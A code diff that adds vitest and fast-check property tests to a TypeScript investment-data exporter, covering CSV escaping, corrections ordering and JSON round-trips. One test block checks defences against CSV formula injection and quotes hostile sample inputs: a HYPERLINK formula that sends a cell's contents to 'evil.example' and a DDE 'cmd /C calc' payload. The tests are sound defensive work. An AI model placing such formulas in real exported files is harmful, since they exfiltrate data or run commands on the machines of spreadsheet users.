@@ -1,5 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import type { ArticleData, CompanyData, RateData } from '../../src/lib/content/schema.ts';
+import type { ArticleData, CompanyData, InvestmentData, RateData } from '../../src/lib/content/schema.ts';
 import { testArticle } from './articleFixture.ts';
 import { buildInvestments, buildOwnership } from '../../src/lib/dataset.ts';
 import {
@@ -140,6 +141,28 @@ describe('csvField and toCsv (RFC 4180)', () => {
   });
 });
 
+describe('csvField in a spreadsheet (OWASP, "CSV Injection")', () => {
+  it('makes a text that starts like a formula plain text: a leading quote mark, and the field quoted', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
+    );
+    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+  });
+
+  it('leaves numbers and texts that only contain the characters alone', () => {
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField('-5')).toBe('-5');
+    expect(csvField('+82.5')).toBe('+82.5');
+    expect(csvField('1e-3')).toBe('1e-3');
+    expect(csvField('KT = LG + Meta @ 2024 - talks')).toBe('KT = LG + Meta @ 2024 - talks');
+    expect(csvField(' =1')).toBe(' =1');
+  });
+});
+
 describe('investmentsCsv', () => {
   const rows = parseCsv(investmentsCsv(investments, url));
   const [header, ...records] = rows;
@@ -276,6 +299,27 @@ describe('eventsDocument', () => {
     ]);
     expect(second?.ownership).toBeNull();
   });
+
+  it('gives each event its corrections, oldest first, and an empty list when it has none', () => {
+    const corrected = eventsDocument(
+      [
+        article('2021-03-23-c', {
+          corrections: [
+            { date: '2026-12-01', text: 'The amount is 26,748,875,000 won.', textKo: '금액을 바로잡았습니다.' },
+            { date: '2026-11-02', text: 'The stake is 15%.' },
+          ],
+        }),
+      ],
+      companies,
+      { investments: [], ownership: [] },
+      url,
+    );
+    expect(corrected.events[0]?.corrections).toEqual([
+      { date: '2026-11-02', text: 'The stake is 15%.', textKo: null },
+      { date: '2026-12-01', text: 'The amount is 26,748,875,000 won.', textKo: '금액을 바로잡았습니다.' },
+    ]);
+    expect(document.events[0]?.corrections).toEqual([]);
+  });
 });
 
 describe('formatJson', () => {
@@ -283,5 +327,87 @@ describe('formatJson', () => {
     const value = { a: [1, { b: null }] };
     expect(formatJson(value)).toBe('{\n  "a": [\n    1,\n    {\n      "b": null\n    }\n  ]\n}\n');
     expect(JSON.parse(formatJson(value))).toEqual(value);
+  });
+});
+
+describe('the open data of any content', () => {
+  /** Texts as an editor or a hostile contributor might write them, often starting like a formula. */
+  const text = fc
+    .tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", ' ', '1', '-1', '"'), fc.string({ maxLength: 12 }))
+    .map(([start, rest]) => `${start}${rest}`)
+    .filter((value) => value.trim() !== '');
+  const investment: fc.Arbitrary<InvestmentData> = fc.record(
+    {
+      investor: fc.constantFrom('kt', 'lg-uplus'),
+      target: fc.oneof(text, fc.constant('genie-music')),
+      amount: fc.double({ min: 1, max: 1e15, noNaN: true }),
+      currency: fc.constantFrom('KRW', 'USD', 'EUR'),
+      usd: fc.double({ min: 1, max: 1e13, noNaN: true }),
+      kind: fc.constantFrom('equity', 'acquisition', 'commitment', 'fund'),
+      note: text,
+    },
+    { requiredKeys: ['investor', 'target', 'amount', 'currency', 'kind'] },
+  );
+  const content = fc.record({
+    names: fc.tuple(text, text, text),
+    investments: fc.array(investment, { minLength: 1, maxLength: 4 }),
+  });
+  const build = ({ names, investments }: { names: [string, string, string]; investments: InvestmentData[] }) => {
+    const named = new Map(
+      (['kt', 'lg-uplus', 'genie-music'] as const).map((id, index) => [id, { id, data: { name: names[index]! } }]),
+    );
+    return buildInvestments([article('2021-03-23-x', { investments })], named, rates);
+  };
+  /** A spreadsheet reads a field as a number, not a formula, when it is one: digits and nothing around them. */
+  const isNumber = (cell: string) => /^[+-]?\.?\d/.test(cell) && cell === cell.trim() && Number.isFinite(Number(cell));
+
+  it('has no CSV field a spreadsheet would run as a formula, unless it is a number', () => {
+    fc.assert(
+      fc.property(content, (generated) => {
+        for (const row of parseCsv(investmentsCsv(build(generated), url)))
+          for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(isNumber(cell), cell).toBe(true);
+      }),
+    );
+  });
+
+  it('reads every text back from the CSV as written, one that starts like a formula after a quote mark', () => {
+    fc.assert(
+      fc.property(content, (generated) => {
+        const records = build(generated);
+        const rows = parseCsv(investmentsCsv(records, url)).slice(1);
+        const column = (row: string[], name: (typeof INVESTMENT_CSV_COLUMNS)[number]) =>
+          row[INVESTMENT_CSV_COLUMNS.indexOf(name)] ?? '';
+        // What the field should hold: the text, after a quote mark where it starts like a formula.
+        const field = (text: string) => (/^[=+\-@\t\r]/.test(text) && !isNumber(text) ? `'${text}` : text);
+        for (const [index, record] of records.entries()) {
+          const row = rows[index]!;
+          expect(column(row, 'investor')).toBe(field(record.investor.name.en));
+          expect(column(row, 'target')).toBe(field(record.target.name.en));
+          expect(column(row, 'note')).toBe(field(record.note ?? ''));
+          expect(Number(column(row, 'amount'))).toBe(record.amount);
+        }
+      }),
+    );
+  });
+
+  it('keeps every value exact in the JSON', () => {
+    fc.assert(
+      fc.property(content, (generated) => {
+        const records = build(generated);
+        const read = JSON.parse(formatJson(investmentsDocument(records, url))) as ReturnType<
+          typeof investmentsDocument
+        >;
+        expect(
+          read.investments.map((record) => [record.investor.name, record.target.name, record.note, record.amount]),
+        ).toEqual(
+          records.map((record) => [record.investor.name.en, record.target.name.en, record.note ?? null, record.amount]),
+        );
+        expect(read.investments.map((record) => record.usd?.value)).toEqual(
+          records.map((record) =>
+            record.usd?.converted ? Math.round(record.usd.value * 100) / 100 : record.usd?.value,
+          ),
+        );
+      }),
+    );
   });
 });
